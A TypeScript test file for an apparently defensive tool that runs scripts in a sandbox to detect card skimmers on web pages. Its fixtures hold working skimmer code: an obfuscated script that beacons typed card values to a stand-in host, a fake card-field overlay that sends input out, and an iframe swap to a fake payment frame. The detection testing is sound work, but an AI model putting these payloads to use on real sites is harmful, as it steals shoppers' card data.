import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type InspectResult, inspectResultSchema } from '@tillwatch/core/detection'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type Ended, run } from '../helpers.ts'

const folder = mkdtempSync(join(tmpdir(), 'tillwatch-detonated-'))
const at = (name: string) => join(folder, name)
/** Makes names that only a running page puts together, from what the page says. */
const hide = (text: string) =>
  `[${[...text].map((letter) => letter.charCodeAt(0) + 7).join()}].map(n=>String.fromCharCode(n-document.body.tagName.length-3)).join('')`
const sender = `document.addEventListener('change',function(e){var b=navigator[${hide('sendBeacon')}];b.call(navigator,${hide('https://collect.stranger-shop.example/p')},btoa(e.target.value))},true)`
const overlay = `var d=document.createElement('div');d.style.cssText='position:absolute;background:white;z-index:9';
d.innerHTML='<input name="cardnumber" style="width:400px;height:100px"><input name="cvv" style="height:100px">';
document.querySelector('#card-element').prepend(d);d.onchange=function(e){fetch('//collect.stranger-shop.example/?'+e.target.value)}`
const swap = `var f=document.createElement('iframe');f.src='https://fake-fields.stranger-shop.example/card';document.querySelector('#card-frame').replaceWith(f)`
const honest = `document.querySelectorAll('input').forEach(function(i){i.addEventListener('input',function(){i.value=i.value.replace(/[^0-9A-Za-z@. ]/g,'')})})`

let ended: Ended
let result: InspectResult
const fileOf = (name: string) => {
  const file = result.files.find(({ path }) => path === at(name))
  if (file?.outcome !== 'judged') throw new Error(`${name} was not judged`)
  return file
}

beforeAll(async () => {
  const files = {
    'sender.js': sender,
    'overlay.js': overlay,
    'swap.js': swap,
    'honest.js': honest,
    'broken.js': 'function (',
    'text.html': '<p>No script</p>',
  }
  for (const [name, text] of Object.entries(files)) writeFileSync(at(name), text)
  ended = await run(['inspect', folder, '--detonate', '--timeout', '120', '--json', at('result.json')])
  result = inspectResultSchema.parse((await import(at('result.json'), { with: { type: 'json' } })).default)
})
afterAll(() => rmSync(folder, { recursive: true, force: true }))

describe('tillwatch inspect --detonate', () => {
  it('takes a card that left in the laboratory for a fact, and names where it went', () => {
    expect(ended).toMatchObject({ code: 1, err: '' })
    expect(fileOf('sender.js')).toMatchObject({ verdict: 'malicious', detonation: { outcome: 'ran', why: null } })
    expect(fileOf('sender.js').reasons).toContainEqual(
      expect.objectContaining({ code: 'detonated-card-sent', sentence: expect.stringContaining('collect.stranger-shop.example') }),
    )
    expect(ended.out).toContain('In the sandbox, the script sent the card number to collect.stranger-shop.example (beacon, base64)')
  })

  it.each(['overlay.js', 'swap.js'])('knows a laid over or swapped payment field: %s', (name) => {
    expect(fileOf(name).verdict).toBe('malicious')
    expect(fileOf(name).reasons).toContainEqual(expect.objectContaining({ code: 'detonated-overlay', weight: 'hard' }))
  })

  it('leaves an honest file alone, which reads what is typed and asks nobody', () => {
    expect(fileOf('honest.js')).toMatchObject({ verdict: 'benign', detonation: { outcome: 'ran' } })
    expect(fileOf('honest.js').detonation?.behaviours).toContainEqual(expect.objectContaining({ kind: 'reads-field', field: 'card' }))
  })

  it('says of each file that did not run to its end that it was not evaluated there, and why', () => {
    expect(result.counts).toMatchObject({ notDetonated: 1, inconclusive: 1 })
    expect(fileOf('broken.js')).toMatchObject({ verdict: 'inconclusive', detonation: { outcome: 'failed', behaviours: [] } })
    expect(fileOf('broken.js').missing.map(({ code }) => code)).toEqual(['not-parsed', 'laboratory-failed'])
    expect(fileOf('text.html')).toMatchObject({ verdict: 'benign', missing: [] })
    expect(fileOf('text.html').detonation).toBeUndefined()
    expect(ended.out).toContain('Not evaluated in the sandbox, or only partly evaluated (1)')
  })

  it('without a browser that works exits with 3 and says so, and what the code does not show is inconclusive', async () => {
    const { code, err, out } = await run(['inspect', at('honest.js'), '--detonate', '--json', '-'], { TILLWATCH_BROWSER: at('no-browser') })
    expect(code).toBe(3)
    expect(err).toContain('Nothing was run in the sandbox.')
    expect(inspectResultSchema.parse(JSON.parse(out)).counts).toMatchObject({ inconclusive: 1, benign: 0, notDetonated: 1 })
  })
})
